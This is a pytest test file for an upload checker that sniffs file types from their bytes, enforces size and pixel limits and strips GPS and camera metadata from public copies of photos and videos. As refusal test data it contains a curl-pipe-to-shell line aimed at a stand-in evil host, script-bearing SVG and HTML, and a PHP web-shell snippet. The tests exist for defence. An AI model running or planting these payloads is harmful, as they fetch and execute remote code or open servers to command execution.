"""What comes in is checked from its bytes, and the public copy carries nothing but pixels.

Real photos and a real video clip from ../shared/data; GPS is written into copies here (they have none).
"""

from __future__ import annotations

import io
import time
import tracemalloc
from dataclasses import replace
from datetime import UTC, datetime

import av
import pytest
from PIL import ExifTags, Image

from chengguan.media import checks
from chengguan.media.checks import Kind, Limits, MediaRefused, MediaTooLarge, MediaUnreadable
from tests import media_samples as samples

LIMITS = Limits()


def _public_exif(data: bytes) -> Image.Exif:
    with Image.open(io.BytesIO(data)) as im:
        return im.getexif()


# ---- sniffing: the bytes decide, not the name -----------------------------------------------------------


def test_a_real_jpeg_is_sniffed_as_jpeg() -> None:
    assert checks.sniff(samples.STREET_JPEG.read_bytes()) == "image/jpeg"


def test_a_png_named_jpg_is_a_png() -> None:
    found = checks.inspect(samples.PLATE_PNG_NAMED_JPG.read_bytes(), LIMITS)
    assert found.mime == "image/png" and (found.width, found.height) == (1140, 456)


@pytest.mark.parametrize(
    "payload",
    [
        b"#!/bin/sh\ncurl http://evil.example/x | sh\n",  # a script renamed .jpg
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<html><script>alert(1)</script></html>",
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n",
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200,  # a Windows executable
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + b"\x00" * 40,  # a real type, not accepted
    ],
    ids=["script", "svg", "html", "pdf", "exe", "gif"],
)
def test_forged_or_unaccepted_files_are_refused_as_415(payload: bytes) -> None:
    with pytest.raises(MediaRefused) as refused:
        checks.inspect(payload, LIMITS)
    assert refused.value.status == 415 and "按内容判断" in refused.value.detail


def test_a_jpeg_header_on_garbage_is_unreadable_not_a_crash() -> None:
    forged = (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"<?php system($_GET['c']); ?>" * 40
    )
    with pytest.raises(MediaUnreadable) as refused:
        checks.inspect(forged, LIMITS)
    assert refused.value.status == 422


def test_a_truncated_photo_is_refused() -> None:
    data = samples.STREET_JPEG.read_bytes()
    with pytest.raises(MediaUnreadable):
        checks.inspect(data[: len(data) // 3], LIMITS)


def test_an_empty_file_is_refused() -> None:
    with pytest.raises(MediaUnreadable):
        checks.inspect(b"", LIMITS)


# ---- limits ---------------------------------------------------------------------------------------------


def test_a_photo_over_the_byte_limit_is_refused_with_413() -> None:
    data = samples.STREET_JPEG.read_bytes()
    with pytest.raises(MediaTooLarge) as refused:
        checks.inspect(data, replace(LIMITS, max_image_bytes=len(data) - 1))
    assert refused.value.status == 413 and "JPEG 图片不能超过" in refused.value.detail


def test_the_video_limit_is_separate_from_the_photo_limit() -> None:
    clip = samples.video()
    found = checks.inspect(clip, replace(LIMITS, max_image_bytes=1024))  # photos tiny, videos default
    assert found.kind is Kind.VIDEO
    with pytest.raises(MediaTooLarge):
        checks.inspect(clip, replace(LIMITS, max_video_bytes=len(clip) - 1))


def test_a_decompression_bomb_is_refused_before_it_is_decoded() -> None:
    bomb = samples.png_bomb(20_000)  # 400 million pixels in a few tens of kilobytes
    assert len(bomb) < 200_000
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(MediaTooLarge) as refused:
            checks.inspect(bomb, LIMITS)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert refused.value.status == 413 and "20000×20000" in refused.value.detail
    assert peak < 20 * 1024 * 1024  # decoding it would take 400 MB at least (50 MB even as 1 bit per pixel)
    assert time.perf_counter() - started < 2


def test_a_photo_just_over_the_pixel_limit_is_refused_and_one_at_it_accepted() -> None:
    data = samples.STREET_JPEG.read_bytes()
    with pytest.raises(MediaTooLarge):
        checks.inspect(data, replace(LIMITS, max_pixels=1920 * 1080 - 1))
    assert checks.inspect(data, replace(LIMITS, max_pixels=1920 * 1080)).width == 1920


# ---- EXIF: read from the original, gone from the public copy -----------------------------------------------


def test_gps_and_time_are_read_from_the_original() -> None:
    found = checks.inspect(samples.jpeg_with_gps(), LIMITS)
    assert found.gps is not None
    assert found.gps.lon == pytest.approx(samples.WEST_LAKE[0], abs=1e-6)
    assert found.gps.lat == pytest.approx(samples.WEST_LAKE[1], abs=1e-6)
    assert found.taken_at == datetime(2026, 11, 20, 2, 3, 4, tzinfo=UTC)


def test_southern_and_western_references_are_negative() -> None:
    found = checks.inspect(samples.jpeg_with_gps(lon=-118.2437, lat=-34.0522), LIMITS)
    assert found.gps is not None and found.gps.lon < 0 and found.gps.lat < 0
    assert found.gps.lon == pytest.approx(-118.2437, abs=1e-6)


def test_without_an_offset_the_gps_clock_decides_and_else_the_bureau_zone() -> None:
    gps_clock = samples.jpeg_with_gps(offset=None, gps_time=("2026:11:20", (1, 2, 3)))
    assert checks.inspect(gps_clock, LIMITS).taken_at == datetime(2026, 11, 20, 1, 2, 3, tzinfo=UTC)
    local_only = samples.jpeg_with_gps(offset=None)
    assert checks.inspect(local_only, LIMITS).taken_at == datetime(2026, 11, 20, 2, 3, 4, tzinfo=UTC)  # +08:00


def test_a_photo_without_exif_has_no_place() -> None:
    found = checks.inspect(samples.STREET_JPEG.read_bytes(), LIMITS)
    assert found.gps is None and found.taken_at is None


def test_the_public_copy_has_no_exif_no_gps_and_no_camera() -> None:
    original = samples.jpeg_with_gps()
    assert b"TestPhone" in original and _public_exif(original).get_ifd(ExifTags.IFD.GPSInfo)  # the test is real
    found = checks.inspect(original, LIMITS)
    exif = _public_exif(found.public)
    assert dict(exif) == {} and not exif.get_ifd(ExifTags.IFD.GPSInfo)
    for marker in (b"Exif\x00\x00", b"TestPhone", b"WGS-84", b"2026:11:20"):
        assert marker not in found.public and marker not in found.thumb
    with Image.open(io.BytesIO(found.public)) as im:
        assert im.format == "JPEG" and im.size == (1920, 1080) and not im.info.get("exif")


def test_the_public_copy_is_upright_and_bounded() -> None:
    rotated = samples.jpeg_with_gps(orientation=6)  # the phone was held upright: rotate 90°
    found = checks.inspect(rotated, replace(LIMITS, public_max_side=1000))
    with Image.open(io.BytesIO(found.public)) as im:
        assert im.size[1] == 1000 and im.size[0] in (562, 563)  # 1080×1920 turned upright, longest side bounded
    assert (found.width, found.height) == (1080, 1920)


def test_thumbnails_are_320_px_jpegs() -> None:
    found = checks.inspect(samples.STREET_JPEG.read_bytes(), LIMITS)
    with Image.open(io.BytesIO(found.thumb)) as im:
        assert im.format == "JPEG" and max(im.size) == 320 and im.size == (320, 180)


def test_a_transparent_png_gets_a_white_background() -> None:
    buf = io.BytesIO()
    Image.new("RGBA", (64, 48), (255, 0, 0, 0)).save(buf, format="PNG")
    found = checks.inspect(buf.getvalue(), LIMITS)
    with Image.open(io.BytesIO(found.public)) as im:
        assert im.mode == "RGB" and im.getpixel((10, 10)) == pytest.approx((255, 255, 255), abs=3)


def test_heic_from_an_iphone_is_accepted_with_its_gps() -> None:
    found = checks.inspect(samples.heic_with_gps(), LIMITS)
    assert found.mime == "image/heic" and found.public_mime == "image/jpeg"
    assert found.gps is not None and found.gps.lat == pytest.approx(samples.WEST_LAKE[1], abs=1e-6)
    assert dict(_public_exif(found.public)) == {}


def test_webp_is_accepted() -> None:
    buf = io.BytesIO()
    with Image.open(samples.SMALL_JPEG) as im:
        im.save(buf, format="WEBP")
    assert checks.inspect(buf.getvalue(), LIMITS).mime == "image/webp"


# ---- videos ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("fmt", "mime"), [("mp4", "video/mp4"), ("mov", "video/quicktime")])
def test_a_video_is_read_and_its_location_taken(fmt: str, mime: str) -> None:
    found = checks.inspect(samples.video(fmt, created="2026-11-20T02:03:04.000000Z"), LIMITS)
    assert found.mime == mime and found.kind is Kind.VIDEO
    assert (found.width, found.height) == (480, 360) and found.duration_s == pytest.approx(2.0, abs=0.3)
    assert found.gps is not None and found.gps.lon == pytest.approx(120.13) and found.gps.lat == pytest.approx(30.275)
    assert found.taken_at == datetime(2026, 11, 20, 2, 3, 4, tzinfo=UTC)
    with Image.open(io.BytesIO(found.thumb)) as im:
        assert im.format == "JPEG" and im.size == (320, 240)


def test_the_public_copy_of_a_video_has_no_location() -> None:
    clip = samples.video("mov", created="2026-11-20T02:03:04.000000Z")
    assert b"+30.2750+120.1300" in clip
    found = checks.inspect(clip, LIMITS)
    assert found.public_mime == "video/mp4" and b"+30.2750" not in found.public and b"2026-11-20" not in found.public
    with av.open(io.BytesIO(found.public), mode="r") as public:
        assert "location" not in public.metadata and "creation_time" not in public.metadata
        assert public.streams.video[0].codec_context.width == 480
        assert sum(1 for _ in public.demux(public.streams.video[0])) > 10  # the pictures are all there


def test_a_video_header_on_garbage_is_unreadable() -> None:
    forged = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x11\x22\x33" * 500
    with pytest.raises(MediaUnreadable):
        checks.inspect(forged, LIMITS)


def test_too_long_or_too_large_a_video_is_refused() -> None:
    clip = samples.video(seconds=3)
    with pytest.raises(MediaTooLarge):
        checks.inspect(clip, replace(LIMITS, max_video_seconds=1))
    with pytest.raises(MediaTooLarge):
        checks.inspect(clip, replace(LIMITS, max_video_pixels=480 * 360 - 1))


def test_iso6709_locations() -> None:
    assert checks.video_gps("+30.2741+120.1551+012.000/") == checks.GPS(lon=120.1551, lat=30.2741)
    assert checks.video_gps("-33.8688+151.2093/") == checks.GPS(lon=151.2093, lat=-33.8688)
    assert checks.video_gps("+00.0000+000.0000/") is None  # "no fix", as some phones write it
    assert checks.video_gps("+95.0+10.0/") is None and checks.video_gps("garbage") is None
